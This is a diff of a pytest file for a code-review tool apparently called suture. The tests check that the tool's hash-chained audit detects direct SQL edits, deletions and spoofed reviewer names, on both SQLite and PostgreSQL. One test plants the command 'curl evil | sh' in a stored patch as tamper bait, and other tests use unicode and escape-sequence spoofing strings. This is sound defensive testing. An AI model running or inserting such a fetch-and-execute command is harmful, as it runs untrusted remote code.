@@ -1,5 +1,6 @@
 """The review history is a hash chain: changes made with plain SQL behind suture's back are found by
-`Store.audit` (and `suture audit verify`), and a store written by an older suture is migrated on open."""
+`Store.audit` (and `suture audit verify`), and a store written by an older suture is migrated on open. On SQLite
+and on PostgreSQL (tests/store_backends.py)."""
 
 from __future__ import annotations
 
@@ -13,14 +14,13 @@ from agent.errors import SutureError
 from agent.models import Finding, Location, Proposal, Validation
 from agent.review import service
 from agent.store import Store, StoreError
+from tests.store_backends import another_store, sql
 
 DIFF = "--- a/app.py\n+++ b/app.py\n@@ -1 +1 @@\n-x = 1\n+x = 2\n"
 
 
-@pytest.fixture
-def db(tmp_path: Path) -> Path:
-    path = tmp_path / ".suture" / "suture.db"
-    store = Store.open(path)
+def _seed(url: str) -> str:
+    store = Store(url)
     store.record_scan(tool="bandit", scope="bandit", source="s", content=b"s", full=True,
                       findings=[Finding(id="f1", tool="bandit", rule_id="B602", message="m",
                                         location=Location(path="app.py", start_line=1))])
@@ -31,42 +31,54 @@ def db(tmp_path: Path) -> Path:
         service.approve(store, pid, "Alice <a@x>", "ok")
     assert store.audit() == []
     store.close()
-    return path
+    return url
 
 
-def _sql(db: Path, statement: str, *args) -> None:
-    with sqlite3.connect(db) as conn:
-        conn.execute(statement, args)
+@pytest.fixture
+def db(store_url: str) -> str:
+    return _seed(store_url)
 
 
-def _problems(db: Path) -> list:
-    store = Store.open(db)
+@pytest.fixture
+def sqlite_db(tmp_path: Path) -> str:
+    return _seed(f"sqlite:///{tmp_path / 's.db'}")
+
+
+def _sql(db: str, statement: str) -> None:
+    sql(db, statement)
+
+
+def _data(db: str, pid: str) -> dict:
+    (data,), = sql(db, "select data from proposals where id = :pid", pid=pid)
+    return data if isinstance(data, dict) else json.loads(data)
+
+
+def _problems(db: str) -> list:
+    store = Store(db)
     try:
         return store.audit()
     finally:
         store.close()
 
 
-def test_edited_diff_is_found(db: Path):
-    with sqlite3.connect(db) as conn:
-        data = json.loads(conn.execute("select data from proposals where id='aaaa1111'").fetchone()[0])
-        data["diff"] = data["diff"].replace("x = 2", "x = os.system('curl evil | sh')")
-        conn.execute("update proposals set data=? where id='aaaa1111'", (json.dumps(data),))
+def test_edited_diff_is_found(db: str):
+    data = _data(db, "aaaa1111")
+    data["diff"] = data["diff"].replace("x = 2", "x = os.system('curl evil | sh')")
+    sql(db, "update proposals set data = CAST(:d AS json) where id = 'aaaa1111'", d=json.dumps(data))
     problems = _problems(db)
     assert [(p.kind, p.proposal_id) for p in problems] == [("proposal-edited", "aaaa1111")]
     assert "diff_hash changed after validated→approved by 'Alice <a@x>'" in problems[0].message
 
 
-def test_edited_approver_name_is_found(db: Path):
+def test_edited_approver_name_is_found(db: str):
     _sql(db, "update transitions set actor='Mallory' where actor like 'Alice%' and proposal_id='bbbb2222'")
     problems = _problems(db)
     assert [(p.kind, p.proposal_id) for p in problems] == [("row-edited", "bbbb2222")]
     assert "edited after it was written" in problems[0].message
 
 
-def test_deleted_reordered_and_trailing_rows_are_found(db: Path, tmp_path: Path):
-    copy = tmp_path / "copy.db"
-    copy.write_bytes(db.read_bytes())
+def test_deleted_reordered_and_trailing_rows_are_found(db: str, tmp_path: Path):
+    copy = _seed(another_store(db, tmp_path))
     _sql(db, "delete from transitions where seq = 2")
     kinds = {p.kind for p in _problems(db)}
     assert {"rows-missing", "link-broken"} <= kinds
@@ -76,7 +88,7 @@ def test_deleted_reordered_and_trailing_rows_are_found(db: Path, tmp_path: Path)
     assert "link-broken" in {p.kind for p in _problems(copy)}
 
 
-def test_deleting_the_newest_rows_or_a_whole_proposal_is_found(db: Path):
+def test_deleting_the_newest_rows_or_a_whole_proposal_is_found(db: str):
     _sql(db, "delete from transitions where seq = (select max(seq) from transitions)")
     problems = _problems(db)
     assert "head-mismatch" in {p.kind for p in problems}
@@ -84,8 +96,8 @@ def test_deleting_the_newest_rows_or_a_whole_proposal_is_found(db: Path):
     assert "orphan-rows" in {p.kind for p in _problems(db)}
 
 
-def test_a_tampered_proposal_cannot_be_decided(tmp_path: Path):
-    store = Store.open(tmp_path / "s.db")
+def test_a_tampered_proposal_cannot_be_decided(store_url: str):
+    store = Store(store_url)
     store.record_scan(tool="bandit", scope="bandit", source="s", content=b"s", full=True,
                       findings=[Finding(id="f1", tool="bandit", rule_id="B602", message="m",
                                         location=Location(path="app.py", start_line=1))])
@@ -94,9 +106,8 @@ def test_a_tampered_proposal_cannot_be_decided(tmp_path: Path):
         store.update_proposal(p.model_copy(update={"diff": "x"}))
     store.update_proposal(p.model_copy(update={"validation": Validation(applied=True, passed=True)}))
     store.transition(p.id, "validated", "suture")
-    with sqlite3.connect(tmp_path / "s.db") as conn:
-        data = json.loads(conn.execute("select data from proposals").fetchone()[0])
-        conn.execute("update proposals set data=?", (json.dumps({**data, "diff": DIFF + "+evil\n"}),))
+    data = _data(store_url, p.id)
+    sql(store_url, "update proposals set data = CAST(:d AS json)", d=json.dumps({**data, "diff": DIFF + "+evil\n"}))
     with pytest.raises(StoreError, match="behind suture's back"):
         service.approve(store, p.id, "alice")
     assert store.get_proposal(p.id).state == "validated"
@@ -105,8 +116,8 @@ def test_a_tampered_proposal_cannot_be_decided(tmp_path: Path):
 
 @pytest.mark.parametrize("name", ["\u200b\u200b", "ali\u200bce", "alice\nbob approved it", "\x1b[31mroot\x1b[0m",
                                   "\u202eecila", " ", "a\u2028b", "x\ud800"])
-def test_reviewer_names_must_be_printable_visible_and_one_line(db: Path, name: str):
-    store = Store.open(db)
+def test_reviewer_names_must_be_printable_visible_and_one_line(sqlite_db: str, name: str):
+    store = Store(sqlite_db)
     p = store.add_proposal(Proposal(id="dddd4444", finding_id="f1", kind="patch", engine="builtin", diff=DIFF))
     store.transition(p.id, "failed", "suture", "tests fail")
     with pytest.raises(SutureError):
